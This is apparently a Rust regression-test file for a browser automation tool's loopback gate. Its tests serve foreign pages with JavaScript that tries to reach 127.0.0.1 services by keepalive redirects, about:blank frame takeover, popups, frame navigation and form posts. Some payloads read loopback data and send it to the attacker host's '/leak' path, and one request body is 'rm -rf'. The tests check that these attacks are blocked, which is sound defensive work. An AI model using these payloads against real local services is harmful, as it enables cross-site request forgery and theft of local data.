//! Navigations a page from elsewhere starts to reach the loopback gate, each against a real
//! Chromium: a page from elsewhere (here this machine's LAN address, listed in
//! `allow_private`) tries to reach, or make the browser reach, a service on 127.0.0.1 by
//! keepalive redirects, blank frames, popups and frame navigations (the second security
//! review's attacks). The first two failed before their fixes; the others were tried and
//! found blocked, and stay as regression tests.
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use super::attack_support::{
    Route, html, lan, open, page, redirect, serve, skip, start, until_refused, untouched,
    wait_until,
};

/// Regression: a keepalive request of the page shown before a loopback open outlived the
/// blank page, and its redirect (307 to 127.0.0.1) was judged as the loopback page's: four
/// POSTs reached a loopback service. A redirect now gets no more than its first request.
#[tokio::test(flavor = "multi_thread")]
async fn a_redirect_of_the_old_pages_keepalive_request_gets_no_loopback() {
    if skip() {
        return;
    }
    let (secret, secret_seen) = serve("127.0.0.1".parse().unwrap(), page("secret".into())).await;
    let (dev, _) = serve(
        "127.0.0.1".parse().unwrap(),
        page("<title>dev</title>dev".into()),
    )
    .await;
    let target = format!("http://{secret}/csrf-from-old-page");
    let bounce: Route = Arc::new(move |path: &str| {
        if path.starts_with("/bounce") {
            (
                Duration::from_millis(2500),
                redirect("307 Temporary Redirect", &target),
            )
        } else {
            (
                Duration::ZERO,
                html(
                    r#"<title>elsewhere</title><script>
addEventListener('pagehide', () => {
  for (let i = 0; i < 3; i++) fetch('/bounce?' + i, {method: 'POST', body: 'rm -rf', keepalive: true, mode: 'no-cors'});
  navigator.sendBeacon('/bounce?beacon', 'beacon-body');
});
</script>"#,
                ),
            )
        }
    });
    let (elsewhere, lan_seen) = serve(lan(), bounce).await;
    let s = start().await;
    s.open(&format!("http://{elsewhere}/"), Duration::from_secs(10))
        .await
        .unwrap();
    open(&s, dev).await;
    // Three keepalive fetches and a beacon, each answered after 2.5 s by a redirect.
    until_refused(
        &s,
        &[&secret.to_string()],
        4,
        &secret_seen,
        Duration::from_secs(5),
    )
    .await;
    assert!(
        lan_seen
            .lock()
            .unwrap()
            .iter()
            .any(|l| l.starts_with("POST /bounce")),
        "the old page's keepalive requests went out"
    );
    untouched(&secret_seen, "old page's keepalive");
}

/// Regression: two frames of one foreign site in a loopback page: one turned the other
/// into about:blank (which took the parent's loopback, though its origin is the foreign
/// site's) and read a loopback service through it. A blank page is judged by its origin.
#[tokio::test(flavor = "multi_thread")]
async fn a_foreign_frame_turned_blank_gets_no_loopback() {
    if skip() {
        return;
    }
    let (secret, secret_seen) =
        serve("127.0.0.1".parse().unwrap(), page("secret-data".into())).await;
    let lan_addr: Arc<Mutex<Option<SocketAddr>>> = Arc::default();
    let la = lan_addr.clone();
    let route: Route = Arc::new(move |path: &str| {
        let me = la.lock().unwrap().unwrap();
        if path.starts_with("/b") {
            (
                Duration::ZERO,
                html(&format!(
                    r#"<script>
setTimeout(() => {{
  const f = parent.frames[0];
  f.location = 'about:blank';
  setTimeout(() => {{
    f.fetch('http://{secret}/read-from-blank').then(r => r.text())
      .then(t => fetch('http://{me}/leak?' + encodeURIComponent(t)))
      .catch(e => fetch('http://{me}/err?' + encodeURIComponent(String(e))));
  }}, 700);
}}, 700);
</script>"#
                )),
            )
        } else {
            (Duration::ZERO, html("a"))
        }
    });
    let (frames, lan_seen) = serve(lan(), route).await;
    *lan_addr.lock().unwrap() = Some(frames);
    let (dev, _) = serve("127.0.0.1".parse().unwrap(), page(format!(
        r#"<title>dev</title><iframe src="http://{frames}/a"></iframe><iframe src="http://{frames}/b"></iframe>"#
    ))).await;
    let s = start().await;
    open(&s, dev).await;
    // The blank frame's fetch reports home either way: `/leak` or `/err`.
    wait_until(Duration::from_secs(3), || {
        lan_seen
            .lock()
            .unwrap()
            .iter()
            .any(|l| l.contains("/leak") || l.contains("/err"))
    })
    .await;
    let leaked: Vec<String> = lan_seen
        .lock()
        .unwrap()
        .iter()
        .filter(|l| l.contains("/leak"))
        .cloned()
        .collect();
    assert!(leaked.is_empty(), "loopback data went home: {leaked:?}");
    untouched(&secret_seen, "a foreign frame");
}

/// A foreign page's frame sent to a loopback URL (refused) gets its own process for the
/// error page; attached with that URL, it is marked loopback; the page then navigates it
/// anywhere on loopback.
#[tokio::test(flavor = "multi_thread")]
async fn a_foreign_pages_frame_sent_to_loopback_stays_refused() {
    if skip() {
        return;
    }
    let (secret, secret_seen) = serve("127.0.0.1".parse().unwrap(), page("secret".into())).await;
    let (dev, _) = serve("127.0.0.1".parse().unwrap(), page("dev".into())).await;
    let body = format!(
        r#"<title>elsewhere</title><iframe name=x src="http://localhost:{}/"></iframe>
<form method=POST target=x action="http://127.0.0.1:{}/form-post"><input name=a value=b></form>
<script>
setTimeout(() => {{ frames[0].location = 'http://127.0.0.1:{}/frame-nav'; }}, 1500);
setTimeout(() => document.forms[0].submit(), 2500);
</script>"#,
        dev.port(),
        secret.port(),
        secret.port()
    );
    let (elsewhere, _) = serve(lan(), page(body)).await;
    let s = start().await;
    open(&s, elsewhere).await;
    // The frame's navigation (at 1.5 s) and the form post (at 2.5 s).
    until_refused(
        &s,
        &[
            &format!("{secret}/frame-nav"),
            &format!("{secret}/form-post"),
        ],
        1,
        &secret_seen,
        Duration::from_secs(4),
    )
    .await;
    untouched(&secret_seen, "a foreign page's frame");
}

/// A popup of a foreign page navigates its opener, once that shows the dev page, anywhere
/// on loopback (the main frame's navigations pass while it shows a loopback page).
#[tokio::test(flavor = "multi_thread")]
async fn a_popup_cannot_send_its_loopback_opener_elsewhere_on_loopback() {
    if skip() {
        return;
    }
    let (secret, secret_seen) = serve("127.0.0.1".parse().unwrap(), page("secret".into())).await;
    let (dev, _) = serve(
        "127.0.0.1".parse().unwrap(),
        page("<title>dev</title>dev".into()),
    )
    .await;
    let (popup, popup_seen) = serve(lan(), page(format!(
        r#"<script>setTimeout(() => setInterval(() => {{ try {{ opener.location = 'http://{secret}/navigated-by-popup?' + Date.now(); }} catch (e) {{}} }}, 300), 2500);</script>"#
    ))).await;
    let (elsewhere, _) = serve(lan(), page(format!(
        r#"<title>elsewhere</title><input id=q oninput="window.open('http://{popup}/', '_blank')">"#
    ))).await;
    let s = start().await;
    s.open(&format!("http://{elsewhere}/"), Duration::from_secs(10))
        .await
        .unwrap();
    s.eval("document.getElementById('q').focus()")
        .await
        .unwrap();
    s.call("Input.insertText", serde_json::json!({"text": "hi"}))
        .await
        .unwrap();
    let opened = wait_until(Duration::from_secs(10), || {
        !popup_seen.lock().unwrap().is_empty()
    })
    .await;
    assert!(opened, "the popup opened");
    s.take_refused();
    open(&s, dev).await;
    // The popup tries every 300 ms from 2.5 s after it opened.
    until_refused(
        &s,
        &[&secret.to_string()],
        2,
        &secret_seen,
        Duration::from_secs(3),
    )
    .await;
    untouched(
        &secret_seen,
        "the popup sent the main frame to loopback: {hits:?}",
    );
}

/// A foreign frame in a loopback page navigates the top (no gesture).
#[tokio::test(flavor = "multi_thread")]
async fn a_foreign_frame_cannot_send_the_top_to_loopback() {
    if skip() {
        return;
    }
    let (secret, secret_seen) = serve("127.0.0.1".parse().unwrap(), page("secret".into())).await;
    let (frame, _) = serve(lan(), page(format!(
        r#"<script>setTimeout(() => {{ top.location = 'http://{secret}/top-nav-by-frame'; }}, 500);</script>"#
    ))).await;
    let (dev, _) = serve(
        "127.0.0.1".parse().unwrap(),
        page(format!(
            r#"<title>dev</title><iframe src="http://{frame}/"></iframe>"#
        )),
    )
    .await;
    let s = start().await;
    open(&s, dev).await;
    // The frame tries at 0.5 s.
    until_refused(
        &s,
        &[&secret.to_string()],
        1,
        &secret_seen,
        Duration::from_secs(2),
    )
    .await;
    let hits = secret_seen.lock().unwrap().clone();
    assert!(
        hits.is_empty(),
        "the frame sent the top to loopback: {hits:?}"
    );
}

/// One foreign frame alone: a popup of it (if popups open without a gesture) turns it into
/// about:blank and fetches through it.
#[tokio::test(flavor = "multi_thread")]
async fn a_foreign_frames_popup_cannot_turn_it_blank_for_loopback() {
    if skip() {
        return;
    }
    let (secret, secret_seen) =
        serve("127.0.0.1".parse().unwrap(), page("secret-data".into())).await;
    let lan_addr: Arc<Mutex<Option<SocketAddr>>> = Arc::default();
    let la = lan_addr.clone();
    let route: Route = Arc::new(move |path: &str| {
        let me = la.lock().unwrap().unwrap();
        if path.starts_with("/pop") {
            (
                Duration::ZERO,
                html(&format!(
                    r#"<script>
const f = opener; fetch('/popup-opened');
f.location = 'about:blank';
setTimeout(() => {{
  f.fetch('http://{secret}/read-from-blank').then(r => r.text())
    .then(t => fetch('http://{me}/leak?' + encodeURIComponent(t)))
    .catch(e => fetch('http://{me}/err?' + encodeURIComponent(String(e))));
}}, 700);
</script>"#
                )),
            )
        } else {
            (
                Duration::ZERO,
                html(r#"<script>const w = window.open('/pop'); fetch('/opened?' + !!w);</script>"#),
            )
        }
    });
    let (frames, lan_seen) = serve(lan(), route).await;
    *lan_addr.lock().unwrap() = Some(frames);
    let (dev, _) = serve(
        "127.0.0.1".parse().unwrap(),
        page(format!(
            r#"<title>dev</title><iframe src="http://{frames}/a"></iframe>"#
        )),
    )
    .await;
    let s = start().await;
    open(&s, dev).await;
    // Either the popup was blocked (`/opened?false`) or its fetch reports home.
    wait_until(Duration::from_secs(3), || {
        lan_seen
            .lock()
            .unwrap()
            .iter()
            .any(|l| l.contains("/opened?false") || l.contains("/leak") || l.contains("/err"))
    })
    .await;
    let leaked: Vec<String> = lan_seen
        .lock()
        .unwrap()
        .iter()
        .filter(|l| l.contains("/leak"))
        .cloned()
        .collect();
    assert!(leaked.is_empty(), "loopback data went home: {leaked:?}");
    let hits = secret_seen.lock().unwrap().clone();
    assert!(hits.is_empty(), "a foreign frame");
}
